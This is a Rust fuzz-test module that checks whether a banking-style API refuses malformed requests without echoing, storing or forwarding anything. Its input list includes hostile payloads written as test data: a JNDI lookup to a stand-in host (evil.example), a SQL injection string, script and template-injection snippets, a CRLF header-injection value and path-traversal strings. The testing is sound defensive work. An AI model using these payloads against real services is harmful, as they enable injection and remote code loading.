//! Nonsense by the hundred: whatever the pieces, a function refuses in words of its own and goes no further.

use super::{Call, WellFormed, bearer, calls::escaped};
use crate::{
    dice::Dice,
    world::{Answer, World},
};
use serde_json::{Map, Value, json};

const CALLS: usize = 600;
/// Stands in everything that is sent and must never come back.
const MARKER: &str = "cAnArY947";

const TEXTS: &[&str] = &[
    "",
    " ",
    "\0",
    "\r\nx-canary: 1",
    "\t",
    "null",
    "true",
    "0",
    "-1",
    "1e999",
    "NaN",
    "SE",
    "FI",
    "individual",
    "corporate",
    "redirect",
    "decoupled",
    "android",
    "5560004615",
    "190102039815",
    "203.0.113.7",
    "10.0.0.1",
    "::",
    "2026-01-01",
    "..",
    "../..",
    "%00",
    "%",
    "%zz",
    "${jndi:ldap://evil.example}",
    "' OR '1'='1",
    "<script>",
    "{{7*7}}",
    "\u{202e}",
    "\u{feff}",
    "ÅÄÖ",
    "\u{1f600}",
    "a1_AAAAAAAAAAAAAAAAAAAAAA",
    "AAAAAAAAAAAAAAAAAAAAAA",
    "\\ud800",
    "\"",
    "\\",
    ";",
    ",",
    "&date_to=2026-01-01",
    "#",
    "?",
    "/",
];
const FIELDS: &[&str] = &[
    "country",
    "psu_type",
    "psu_corporate_id",
    "reference",
    "authorization",
    "method",
    "app",
    "same_device",
    "personal_number",
    "handle",
    "date_from",
    "",
    "constructor",
    "\0",
];
const HEADERS: &[&str] = &[
    "psu-ip-address",
    "idempotency-key",
    "content-type",
    "accept",
    "forwarded",
    "x-forwarded-for",
    "content-encoding",
    "cookie",
    "x-amzn-trace-id",
    "x-http-method-override",
    "if-none-match",
    "range",
    "expect-ct",
];
const PARAMETERS: &[&str] = &["date_from", "date_to", "cursor", "state", "code", "error", "consent_id", ""];

fn text(dice: &mut Dice) -> String {
    let word = TEXTS[dice.below(TEXTS.len())];
    match dice.below(6) {
        0 => word.to_owned(),
        1 => format!("{MARKER}{word}"),
        2 => format!("{word}{MARKER}"),
        3 => format!("{word}{MARKER}{}", TEXTS[dice.below(TEXTS.len())]),
        4 => format!("{MARKER}{}", word.repeat(dice.below(40))),
        _ => MARKER.repeat(1 + dice.below(20)),
    }
}

fn value(dice: &mut Dice, depth: usize) -> Value {
    match dice.below(if depth == 0 { 7 } else { 9 }) {
        0 => Value::Null,
        1 => json!(dice.below(2) == 0),
        2 => json!(dice.below(usize::MAX >> 1)),
        3 => json!(-1.5e300),
        4..=6 => json!(text(dice)),
        7 => (0..dice.below(4)).map(|_| value(dice, depth - 1)).collect(),
        _ => Value::Object(object(dice, depth - 1)),
    }
}

fn object(dice: &mut Dice, depth: usize) -> Map<String, Value> {
    let mut fields = Map::new();
    for _ in 0..dice.below(7) {
        let name = if dice.below(8) == 0 { text(dice) } else { dice.one_of(FIELDS).to_owned() };
        fields.insert(name, value(dice, depth));
    }
    fields
}

/// A body that no route can take, however good the rest of it is: one field of it is nobody's.
fn body(dice: &mut Dice) -> String {
    let mut fields = object(dice, 3);
    if dice.below(2) == 0 {
        fields.extend([("country".to_owned(), json!("SE")), ("psu_type".to_owned(), json!("individual"))]);
    }
    fields.insert(MARKER.to_owned(), value(dice, 2));
    let whole = Value::Object(fields).to_string();
    match dice.below(8) {
        0 => whole.chars().take(dice.below(whole.len()) + 1).collect::<String>() + "]",
        1 => value(dice, 0).to_string() + " " + MARKER,
        2 => "[".repeat(1 + dice.below(3000)),
        _ => whole,
    }
}

fn query(dice: &mut Dice) -> String {
    let pair = |dice: &mut Dice| format!("{}={}", dice.one_of(PARAMETERS), escaped(&text(dice)));
    let pairs: Vec<String> = (0..dice.below(5)).map(|_| pair(dice)).collect();
    format!("?{}&{MARKER}=1", pairs.join("&"))
}

/// A well-formed call with nonsense in it; at least one part of it is certainly wrong.
fn nonsense(dice: &mut Dice, ground: &Call) -> Call {
    let mut call = ground.clone();
    for _ in 0..dice.below(4) {
        // What HTTP itself does not let through never gets as far as us.
        let value: String = text(dice).chars().filter(|c| *c == '\t' || !c.is_control()).collect();
        call = call.and(HEADERS[dice.below(HEADERS.len())], value);
    }
    if call.method() == "POST" {
        call = call.body(body(dice));
    }
    let only_a_query = !call.has("{consent_id}") && call.method() != "POST";
    if call.has("/transactions") || only_a_query || dice.below(3) == 0 {
        call.query = query(dice);
    }
    if call.has("{account_id}") && dice.below(2) == 0 {
        call.account = MARKER.to_owned() + &text(dice);
    }
    if call.has("{consent_id}") && (dice.below(4) == 0 || call.method() != "POST") {
        call.consent = MARKER.to_owned() + &text(dice);
    }
    call
}

/// What no answer to nonsense may be.
fn complaint(call: &Call, answer: &Answer) -> Option<String> {
    let document: Value = serde_json::from_str(&answer.text).unwrap_or_default();
    let ours = match answer.header("content-type") {
        Some("application/problem+json") => {
            document["code"].is_string() && document["status"] == answer.status
        }
        Some("application/json") => document["message"].is_string(),
        Some("text/html; charset=utf-8") => call.has("/callback"),
        _ => false,
    };
    let echo =
        format!("{:?} {}", answer.headers, answer.text).to_lowercase().contains(&MARKER.to_lowercase());
    let fine = (400..500).contains(&answer.status) && ours && !echo;
    (!fine).then(|| {
        let sent = format!("{} {} {:?} {}", call.method(), call.path(), call.headers, call.body);
        format!("{sent}\n  answered {} {:?} {}", answer.status, answer.headers, answer.text)
    })
}

pub(super) async fn run(world: &World) {
    let seed = std::env::var("SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(20_260_115_u64);
    let mut dice = Dice::seeded(seed);
    let anna = world.person();
    let (token, well_formed) = (bearer(world, &anna.spec), WellFormed::prepare(&anna).await);
    let mut ground = well_formed.all();
    let callback = Call { route: "GET /v1/callback", ..well_formed.bare[0].clone() };
    ground.push(&callback);
    let before = (world.bank.ledger().calls.len(), world.dump().await);
    for number in 0..CALLS {
        let call = nonsense(&mut dice, ground[number % ground.len()]);
        let answer = call.send(world, Some(&token)).await;
        let complaint = complaint(&call, &answer);
        assert!(complaint.is_none(), "SEED={seed}, call {number}: {}", complaint.unwrap_or_default());
        assert_eq!(
            world.bank.ledger().calls.len(),
            before.0,
            "SEED={seed}, call {number}: {} {}",
            call.path(),
            call.body
        );
    }
    assert!(world.dump().await == before.1, "SEED={seed}: something was stored");
    crate::world::measure("malformed input, generated", CALLS, "a generator", Some(seed));
}
